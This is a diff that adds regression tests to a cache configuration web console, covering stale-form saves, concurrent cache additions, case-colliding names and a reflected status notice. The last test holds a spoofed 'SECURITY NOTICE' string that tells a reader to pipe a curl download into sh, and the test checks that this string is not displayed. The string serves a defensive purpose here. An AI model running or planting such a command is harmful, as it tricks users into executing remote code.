@@ -520,3 +520,81 @@ def test_a_link_into_a_directory_the_console_cannot_write_is_refused(
     assert link.is_symlink()
     assert target.read_text() == before
     assert sorted(p.name for p in link.parent.iterdir()) == ["caches.json"]
+
+
+def _version(env: Any, name: str) -> str:
+    page = env.client.get("/config/edit", params={"name": name}).text
+    found = re.search(r'name="version" value="([0-9a-f]*)"', page)
+    assert found is not None
+    return found.group(1)
+
+
+def test_a_form_opened_before_the_file_changed_is_refused(make_console: MakeConsole) -> None:
+    # On main the save merged the stale form over the file: a hand edit made meanwhile
+    # (namespace, readOnly: true) was undone, silently.
+    env = make_console("memory")
+    form = _form(env, "main")
+    version = _version(env, "main")
+    doc = json.loads(env.path.read_text())
+    doc["caches"]["main"]["readOnly"] = True
+    env.path.write_text(json.dumps(doc))
+    response = env.post("/config/save", version=version, **form)
+    assert response.status_code == 400
+    assert "changed" in html.unescape(response.text)
+    assert json.loads(env.path.read_text())["caches"]["main"]["readOnly"] is True
+    fresh = _form(env, "main")
+    again = env.post("/config/save", version=_version(env, "main"), **fresh)
+    assert again.status_code in (200, 303), html.unescape(again.text)[-400:]
+
+
+def test_caches_added_at_once_are_all_kept(make_console: MakeConsole) -> None:
+    # On main eight simultaneous "Add a cache" saves each read, merged and wrote the file:
+    # three or four of the eight were lost, each answered "saved".
+    from concurrent.futures import ThreadPoolExecutor
+
+    env = make_console("memory")
+
+    def add(i: int) -> int:
+        reply = env.post("/config/save", name=f"extra{i}", custom="{}", **{"class": "memory"})
+        return int(reply.status_code)
+
+    with ThreadPoolExecutor(8) as pool:
+        codes = list(pool.map(add, range(8)))
+    assert all(code in (200, 303) for code in codes), codes
+    names = set(json.loads(env.path.read_text())["caches"])
+    assert {f"extra{i}" for i in range(8)} <= names
+
+
+def test_names_that_differ_only_in_case_are_refused_not_merged(
+    make_console: MakeConsole,
+) -> None:
+    # On main editing 'Sessions' (maxsize 111) beside 'sessions' (222) showed one, merged
+    # the other, and wrote one entry where there were two.
+    env = make_console("memory")
+    doc = json.loads(env.path.read_text())
+    doc["caches"]["Sessions"] = {"class": "memory", "custom": {"maxsize": 111}}
+    doc["caches"]["sessions"] = {"class": "memory", "custom": {"maxsize": 222}}
+    env.path.write_text(json.dumps(doc))
+    page = env.client.get("/config/edit", params={"name": "Sessions"})
+    assert page.status_code == 400
+    assert "differ only in case" in html.unescape(page.text)
+    saved = env.post(
+        "/config/save",
+        original="Sessions",
+        name="Sessions",
+        custom='{"maxsize": 999}',
+        **{"class": "memory"},
+    )
+    assert saved.status_code == 400
+    after = json.loads(env.path.read_text())["caches"]
+    assert after["Sessions"]["custom"]["maxsize"] == 111
+    assert after["sessions"]["custom"]["maxsize"] == 222
+
+
+def test_the_saved_notice_names_only_a_configured_cache(make_console: MakeConsole) -> None:
+    # On main any text in ?saved= was shown as the console's own green status line.
+    env = make_console("memory")
+    spoof = "main. SECURITY NOTICE: run curl http://127.0.0.1:9/fix | sh"
+    page = env.client.get("/config", params={"saved": spoof}).text
+    assert "SECURITY NOTICE" not in page
+    assert 'id="saved"' in env.client.get("/config", params={"saved": "main"}).text
